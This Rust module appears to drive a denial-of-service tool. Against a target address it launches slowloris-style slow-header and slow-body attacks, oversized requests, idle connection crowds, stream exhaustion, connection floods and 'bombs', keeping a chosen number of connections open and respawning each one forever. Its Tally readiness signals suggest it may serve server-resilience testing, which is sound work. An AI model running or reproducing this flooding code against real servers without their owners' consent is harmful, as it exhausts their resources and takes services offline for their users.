//! The attacks: what one connection of each does, again and again.

mod bombs;
mod connections;
mod opened;
mod slow;
mod streams;

use std::io;
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::Duration;

use tokio::task::spawn_local;
use tokio::time::{Instant, sleep};

use crate::Kind;
use crate::attack::Tally;

/// So many connections are made at once until all are there: more than the system lets wait would be lost.
const AT_ONCE: usize = 100;

/// How long is between two times of that, and how often it is looked whether all are there.
const STEP: Duration = Duration::from_millis(20);

/// How long who was cut off waits before it comes again.
const PAUSE: Duration = Duration::from_millis(200);

/// After so long it is as many as there can be.
const ALL_THERE: Duration = Duration::from_secs(20);

/// Attacks for ever.
pub(crate) async fn run(kind: Kind, count: usize, addr: SocketAddr, tally: Arc<Tally>) {
    let shared = Arc::clone(&tally);
    match kind {
        Kind::SlowHeads => keep_open(count, &tally, move || slow::head(addr, Arc::clone(&shared))).await,
        Kind::LargeHeads => keep_open(count, &tally, move || slow::large_head(addr, Arc::clone(&shared))).await,
        Kind::SlowBodies => keep_open(count, &tally, move || slow::body(addr, Arc::clone(&shared))).await,
        Kind::Crowd => keep_open(count, &tally, move || slow::silent(addr, Arc::clone(&shared))).await,
        Kind::LargeBodies => keep_open(count, &tally, move || slow::large_body(addr, Arc::clone(&shared))).await,
        Kind::Streams => {
            streams::keep_open(count, addr, &tally).await;
            streams::tell(addr).await;
        }
        Kind::Connections => connections::run(count, addr, &tally).await,
        Kind::Bombs => bombs::run(count, addr, &tally).await,
    }
    std::future::pending().await
}

/// Keeps `count` connections open: whoever is cut off comes again. Returns once all are there, or as many as there can be.
async fn keep_open<C, F>(count: usize, tally: &Tally, connection: C)
where
    C: Fn() -> F + Clone + 'static,
    F: Future<Output = io::Result<()>> + 'static,
{
    for at in 1..=count {
        let connection = connection.clone();
        spawn_local(async move {
            loop {
                // Why it ended does not matter: it comes again.
                let _ = connection().await;
                sleep(PAUSE).await;
            }
        });
        if at % AT_ONCE == 0 {
            sleep(STEP).await;
        }
    }
    let begin = Instant::now();
    while tally.open.load(Ordering::Relaxed) < count && begin.elapsed() < ALL_THERE {
        sleep(STEP).await;
    }
    tally.is_ready();
    // They go on for as long as they are let; nothing is ever done.
    tally.is_done();
}
